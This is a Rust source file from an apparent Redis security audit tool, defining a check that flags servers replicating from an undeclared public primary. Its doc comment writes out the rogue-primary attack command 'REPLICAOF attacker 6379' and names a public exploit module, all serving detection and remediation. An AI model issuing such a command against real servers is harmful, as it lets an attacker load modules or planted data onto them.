//! REPL-007.

use std::net::IpAddr;

use redan_model::{Confidence, Evidence, Gap, Origin, Server};

use crate::control;
use crate::control::Context;
use crate::outcome::{Failure, Outcome};
use crate::support::data_server;
use crate::topology::{self, Address};

control! {
    /// A replica follows a primary that somebody meant: one of the policy's trusted primaries, or,
    /// without such a list, one that is audited here, that a file names, or that has a private
    /// address. A public address that nobody declared fails.
    ///
    /// # Why
    /// One `REPLICAOF` makes a server drop its data and load whatever the other side sends. P2PInfect,
    /// HeadCrab and the public exploit modules all start with it.
    ///
    /// # Attack
    /// `REPLICAOF attacker 6379`: the rogue primary sends a module instead of a dump, or a data set
    /// with planted sessions.
    ///
    /// # Fix
    /// If nobody of yours did this: `REPLICAOF NO ONE`, isolate the host, look for modules,
    /// functions and cron lines, rotate every secret, restore from a backup. List the real primaries
    /// in the policy and deny `REPLICAOF` to applications.
    ///
    /// # Sources
    /// - Metasploit module `exploits/linux/redis/redis_replication_cmd_exec`
    /// - Unit 42 on P2PInfect (<https://unit42.paloaltonetworks.com/peer-to-peer-worm-p2pinfect/>)
    "REPL-007", "unknown-primary";
    title: "The server follows a primary that nobody declared",
    severity: Critical, aspect: Replication,
    owasp: ["A08:2021"], iso27001: ["A.8.7", "A.8.16", "A.8.20"], pci: ["5.2.1", "11.5.2"], nist_csf: ["DE.CM-09", "DE.AE-02"], ley1581: ["art. 17 n"],
    consequence_of: [],
    check: Server(check),
}

fn check(server: &Server, context: &Context<'_>) -> Result<Outcome, Outcome> {
    data_server(server)?;
    let address = topology::followed(server).ok_or(Outcome::NotApplicable)?;
    let trusted = &context.policy.trusted_primaries;
    if !trusted.is_empty() {
        let listed = trusted.iter().any(|entry| matches(entry, &address));
        return Ok(if listed {
            Outcome::Pass
        } else {
            failure(server, &address, "is not a trusted primary of the policy").into()
        });
    }
    if context.topology.primary(server).is_some()
        || is_declared(server)
        || is_private(&address.host)
    {
        return Ok(Outcome::Pass);
    }
    if address.host.parse::<IpAddr>().is_ok() {
        let why = "is a public address that no file declares";
        return Ok(failure(server, &address, why).confidence(Confidence::Likely).into());
    }
    let why = "the policy lists no trusted primaries; add them to it";
    Err(Outcome::Unknown(Gap::new(&server.target, format!("tell whether {address} is meant"), why)))
}

fn failure(server: &Server, address: &Address, why: &str) -> Failure {
    let failure = Failure::new(address.to_string(), format!("it follows {address}, which {why}"));
    match (&server.live, server.settings.get("replicaof")) {
        (Some(_), _) => failure.with(Evidence::live(
            "INFO replication",
            format!("role:slave master_host:{} master_port:{}", address.host, address.port),
        )),
        (None, Some(setting)) => {
            failure.with(Evidence::of("replicaof", setting.text(), &setting.origin))
        }
        (None, None) => failure,
    }
}

/// `host` or `host:port` of the policy.
fn matches(entry: &str, address: &Address) -> bool {
    entry.eq_ignore_ascii_case(&address.host) || entry.eq_ignore_ascii_case(&address.to_string())
}

/// True when a file, not the running server, says whom to follow.
fn is_declared(server: &Server) -> bool {
    let setting = server.settings.get("replicaof").or_else(|| server.settings.get("slaveof"));
    server.live.is_none()
        && setting.is_some_and(|setting| !matches!(setting.origin, Origin::Live { .. }))
        && !setting.is_some_and(|setting| {
            setting.text().split_ascii_whitespace().next().is_some_and(is_public)
        })
}

fn is_private(host: &str) -> bool {
    host == "localhost" || host.parse::<IpAddr>().is_ok_and(|address| !is_public_address(address))
}

fn is_public(host: &str) -> bool {
    host.parse::<IpAddr>().is_ok_and(is_public_address)
}

fn is_public_address(address: IpAddr) -> bool {
    match address {
        IpAddr::V4(v4) => {
            let [a, b, ..] = v4.octets();
            let shared = a == 100 && (64..128).contains(&b);
            !(v4.is_private()
                || v4.is_loopback()
                || v4.is_link_local()
                || v4.is_unspecified()
                || shared)
        }
        IpAddr::V6(v6) => {
            let [first, ..] = v6.segments();
            let local = first & 0xfe00 == 0xfc00 || first & 0xffc0 == 0xfe80;
            !(v6.is_loopback() || v6.is_unspecified() || local)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn private_networks_are_not_public() {
        for host in
            ["10.0.0.1", "192.168.1.1", "172.16.0.1", "127.0.0.1", "fd00::1", "::1", "100.64.0.1"]
        {
            assert!(!is_public(host) && is_private(host), "{host}");
        }
        for host in ["8.8.8.8", "172.32.0.1", "2001:db8::1"] {
            assert!(is_public(host), "{host}");
        }
        assert!(!is_public("redis-primary") && !is_private("redis-primary"));
    }
}
